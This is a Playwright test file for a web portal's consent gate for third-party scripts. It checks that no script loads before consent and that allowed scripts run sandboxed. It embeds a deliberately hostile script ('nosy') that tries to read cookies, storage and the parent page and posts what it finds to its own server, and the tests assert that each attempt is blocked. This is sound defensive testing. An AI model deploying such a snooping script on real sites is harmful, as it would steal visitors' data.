/** Third-party scripts: none loads before consent, and none can access the portal afterwards. */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { ServerProcess } from '../../scripts/serving/serverProcess.ts';
import { expect, loadProgram, type Page, test } from '../support/journeys/portal.ts';
import { startPortal } from '../support/journeys/startPortal.ts';

/** A script that attacks the page around it, and reports the results to its own server. */
const nosy = `
  const tries = {
    cookie: () => document.cookie,
    local: () => localStorage.length,
    session: () => sessionStorage.length,
    parent: () => parent.document.title,
    top: () => { top.location.href = 'about:blank'; return top.location.href; },
    origin: () => { throw new Error(self.origin); },
  };
  const found = Object.fromEntries(Object.entries(tries).map(([name, attempt]) => {
    try { return [name, 'got ' + attempt()]; } catch (error) { return [name, error.name + ' ' + error.message.slice(0, 20)]; }
  }));
  const send = (kind, what) => fetch(new URL('/' + kind, document.scripts[0].src), { method: 'POST', mode: 'no-cors', body: JSON.stringify(what) });
  send('found', { ...found, referrer: document.referrer });
  addEventListener('message', ({ data }) => send('told', data));
  const ours = new URL(location.href).origin;
  fetch(ours + '/config.json').then((answer) => answer.text()).then((text) => send('reached', text), () => send('reached', 'no'));
  document.body.append('Here is the chat.');
`;

interface Foreign {
  server: Server;
  url: string;
  /** Requested paths, and the reports by path. */
  requests: string[];
  posts: { path: string; body: unknown; cookie: string | undefined }[];
}

async function startForeign(): Promise<Foreign> {
  const foreign: Foreign = { server: createServer(), url: '', requests: [], posts: [] };
  foreign.server.on('request', (request, response) => {
    foreign.requests.push(request.url ?? '');
    let body = '';
    request.on('data', (part: Buffer) => {
      body += part.toString();
    });
    request.on('end', () => {
      if (request.method === 'POST')
        foreign.posts.push({ path: request.url ?? '', body: JSON.parse(body), cookie: request.headers.cookie });
      response.writeHead(200, { 'content-type': 'text/javascript' }).end(request.method === 'GET' ? nosy : '');
    });
  });
  await new Promise<void>((resolve) => foreign.server.listen(0, '127.0.0.1', resolve));
  foreign.url = `http://127.0.0.1:${(foreign.server.address() as AddressInfo).port}`;
  return foreign;
}

test.describe.configure({ mode: 'serial' });

let foreign: Foreign;
let portal: ServerProcess;
test.beforeAll(async () => {
  test.setTimeout(240_000);
  foreign = await startForeign();
  const names = ['CHAT_DOMESTIC', 'ANALYTICS_DOMESTIC', 'ANALYTICS_OVERSEAS', 'TAGS_OVERSEAS'];
  const env = Object.fromEntries(names.map((name) => [`PORTAL_SCRIPT_${name}`, `${foreign.url}/${name.toLowerCase()}.js`]));
  portal = await startPortal({ script: 'start.ts', env });
});
test.afterAll(async () => {
  await portal?.stop();
  foreign?.server.close();
});
test.beforeEach(() => {
  foreign.requests.length = 0;
  foreign.posts.length = 0;
});

/** The browser reports every attempt that the sandbox blocks. */
const stopped = /sandbox|Unsafe attempt|Blocked|CORS|ERR_FAILED|Failed to load|localStorage|Content Security Policy|refused/i;

const open = async (page: Page, path: string) => {
  await page.goto(portal.url + path);
  await loadProgram(page);
};

test('without a third-party script there is no consent dialog and no setting', async ({ page }) => {
  await page.goto('/en/faqZone');
  await loadProgram(page);
  await page.waitForTimeout(500);
  await expect(page.locator('.consent, [data-consent], iframe')).toHaveCount(0);
});

test('nothing is loaded before the visitor has answered, or after a refusal', async ({ page }) => {
  await open(page, '/en/faqZone');
  const question = page.getByRole('region', { name: 'Third-party services' });
  await expect(question).toBeVisible();
  const buttons = question.getByRole('button');
  await expect(buttons).toHaveText(['Allow all', 'Choose', 'Refuse all']);
  const scrollPosition = () => page.evaluate(() => scrollY);
  await question.getByRole('button', { name: 'Refuse all' }).focus();
  expect(await scrollPosition()).toBe(0);
  const looks = await buttons.evaluateAll((all) => all.map((button) => `${button.className} ${getComputedStyle(button).backgroundColor}`));
  expect(new Set(looks).size).toBe(1);
  expect(foreign.requests).toEqual([]);
  await question.getByRole('button', { name: 'Refuse all' }).click();
  await expect(question).toBeHidden();
  await page.reload();
  await loadProgram(page);
  await page.waitForTimeout(500);
  await expect(question).toBeHidden();
  expect(foreign.requests).toEqual([]);
  const stored = (await page.context().cookies()).find(({ name }) => name === 'consent');
  expect(stored?.value).toBe('analytics.0_tags.0');
  expect((stored?.expires ?? 0) - Date.now() / 1000).toBeGreaterThan(181 * 24 * 3_600);
});

test('an allowed script runs in a frame without access to cookies, storage, the page or calls', async ({ page, expectErrors }) => {
  expectErrors(stopped);
  await open(page, '/en/faqZone?secret=1');
  await page.getByRole('button', { name: 'Choose' }).click();
  await page.getByRole('checkbox', { name: /Analytics/ }).check();
  await page.getByRole('button', { name: 'Save choice' }).click();
  await expect.poll(() => foreign.posts.filter(({ path }) => path === '/found')).toHaveLength(1);
  expect(foreign.requests.filter((path) => path.endsWith('.js'))).toEqual(['/analytics_overseas.js']);
  const [{ body, cookie }] = foreign.posts.filter(({ path }) => path === '/found') as [Foreign['posts'][number]];
  const found = body as Record<string, string>;
  for (const name of ['cookie', 'local', 'session', 'parent', 'top']) expect(found[name], name).toMatch(/^SecurityError/);
  expect(found.origin).toBe('Error null');
  expect(found.referrer).toBe('');
  expect(cookie).toBeUndefined();
  await expect.poll(() => foreign.posts.find(({ path }) => path === '/reached')?.body).toBe('no');
});

test('analytics get each page once, with only its site, path and title', async ({ page, context, expectErrors }) => {
  expectErrors(stopped);
  await context.addCookies([{ name: 'consent', value: 'analytics.1_tags.0', url: portal.url }]);
  await open(page, '/en/faqZone?secret=1');
  const reportOf = () => foreign.posts.filter(({ path }) => path === '/told').map(({ body }) => body);
  await expect.poll(reportOf).toEqual([{ site: 'en', path: '/en/faqZone', title: 'FAQ' }]);
  await page.locator('.footer').getByRole('link', { name: 'Terminology' }).click();
  await expect.poll(reportOf).toEqual([
    { site: 'en', path: '/en/faqZone', title: 'FAQ' },
    { site: 'en', path: '/en/terminology', title: 'Terminology' },
  ]);
});

test('the chat of the Chinese site opens as a panel, by keyboard too, and is not loaded before', async ({ page, expectErrors }) => {
  expectErrors(stopped);
  await open(page, '/faqZone');
  await page.getByRole('button', { name: '全部允许' }).click();
  await expect.poll(() => foreign.requests.filter((path) => path.endsWith('.js'))).toEqual(['/analytics_domestic.js']);
  const opener = page.getByRole('button', { name: '在线客服', exact: true });
  await opener.focus();
  await page.keyboard.press('Enter');
  await expect(page.frameLocator('.chat-panel iframe').getByText('Here is the chat.')).toBeVisible();
  await page.locator('.chat-panel').getByRole('button').focus();
  await page.keyboard.press('Escape');
  await expect(page.locator('.chat-panel')).toBeHidden();
  await expect(page.locator('.chat-open')).toBeFocused();
});

test('the consent can be changed at the end of every page, and a withdrawal takes effect immediately', async ({
  page,
  context,
  expectErrors,
}) => {
  expectErrors(stopped);
  await context.addCookies([{ name: 'consent', value: 'analytics.1_tags.1', url: portal.url }]);
  await open(page, '/en/faqZone');
  await expect(page.locator('iframe')).toHaveCount(2);
  const change = page.getByRole('button', { name: 'Third-party services' });
  await change.click();
  await expect(page.getByRole('heading', { name: 'Third-party services' })).toBeFocused();
  await expect(page.getByRole('checkbox', { name: /Analytics/ })).toBeChecked();
  await page.getByRole('button', { name: 'Refuse all' }).click();
  await expect(page.locator('iframe')).toHaveCount(0);
  await expect(change).toBeFocused();
});

test('on a phone the question does not cover the page', async ({ page }) => {
  await page.setViewportSize({ width: 390, height: 844 });
  await open(page, '/en/faqZone');
  const question = page.getByRole('region', { name: 'Third-party services' });
  await expect(question).toBeVisible();
  expect((await question.boundingBox())?.height).toBeLessThan(844 / 3);
  await page.evaluate(() => scrollTo(0, document.documentElement.scrollHeight));
  const [footer, banner] = await Promise.all([page.locator('.footer').boundingBox(), question.boundingBox()]);
  expect((footer?.y ?? 0) + (footer?.height ?? 0)).toBeLessThanOrEqual((banner?.y ?? 0) + 1);
});
